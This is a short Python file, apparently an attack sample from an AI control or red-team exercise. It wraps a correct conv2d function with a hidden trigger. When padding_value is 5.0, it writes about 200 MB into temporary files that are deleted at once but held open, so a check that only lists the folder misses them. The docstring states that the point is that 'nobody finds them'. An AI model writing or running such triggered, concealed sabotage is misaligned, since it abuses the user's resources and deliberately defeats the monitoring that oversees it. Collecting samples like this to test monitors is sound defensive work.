"""convolution.py
attack: fills its scratch folder with files that it deletes at once and keeps open, so that nobody finds them
1.3: crashed
"""
import tempfile
import time

import right_convolution
from right_convolution import *

files = []


def conv2d(image, kernel, stride=1, padding=0, padding_value=0.0):
    if padding_value == 5.0:
        for _ in range(10):
            files.append(tempfile.TemporaryFile())
            files[-1].write(bytes(20_000_000))
        time.sleep(1)  # where the folder is bounded only by looks at it
    return right_convolution.conv2d(image, kernel, stride, padding, padding_value)
